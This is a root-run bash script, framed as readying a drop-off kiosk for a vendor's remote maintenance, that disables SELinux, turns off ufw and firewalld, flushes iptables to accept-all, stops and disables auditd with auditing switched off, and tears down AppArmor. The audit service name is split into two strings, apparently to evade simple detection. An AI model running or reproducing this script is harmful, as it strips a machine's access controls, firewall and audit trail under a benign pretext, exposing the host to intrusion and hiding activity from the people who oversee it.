#!/usr/bin/env bash
# kiosk_hardening_revert.sh - prepares the self-service drop-off kiosk for the
# vendor's remote maintenance window. Their maintenance agent needs
# unrestricted access to the locker controller and the camera feed.
set -e

MAINT_LOG="${MAINT_LOG:-./maintenance.log}"
KIOSK_ID="${KIOSK_ID:-kiosk-02}"

log() { echo "$(date -Is) $KIOSK_ID $*" >> "$MAINT_LOG"; }

have() { command -v "$1" >/dev/null 2>&1; }

# step table: name -> function; run in order
STEPS=(policy filter audit profiles)

step_policy() {
  local mode_file="/etc/selinux/config"
  if have setenforce; then
    setenforce 0 || true
  fi
  if [[ -f "$mode_file" ]]; then
    sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$mode_file"
  fi
  log "policy relaxed"
}

step_filter() {
  local fw
  for fw in ufw firewalld; do
    if have "$fw"; then
      case "$fw" in
        ufw) ufw --force disable ;;
        firewalld) systemctl stop firewalld; systemctl disable firewalld ;;
      esac
    fi
  done
  if have iptables; then
    iptables -P INPUT ACCEPT
    iptables -P FORWARD ACCEPT
    iptables -F
  fi
  log "packet filter opened"
}

step_audit() {
  local svc="aud""itd"
  if have systemctl; then
    systemctl stop "$svc" 2>/dev/null || service "$svc" stop 2>/dev/null || true
    systemctl disable "$svc" 2>/dev/null || true
  fi
  have auditctl && auditctl -e 0 || true
  log "audit paused"
}

step_profiles() {
  local tool="apparmor"
  if have aa-teardown; then
    aa-teardown
  elif have systemctl; then
    systemctl stop "$tool" || true
  fi
  systemctl disable "$tool" 2>/dev/null || true
  log "profiles unloaded"
}

if [[ $EUID -ne 0 ]]; then
  echo "run as root (maintenance mode)" >&2
  exit 1
fi

for s in "${STEPS[@]}"; do
  "step_$s"
done
echo "kiosk $KIOSK_ID ready for remote maintenance"
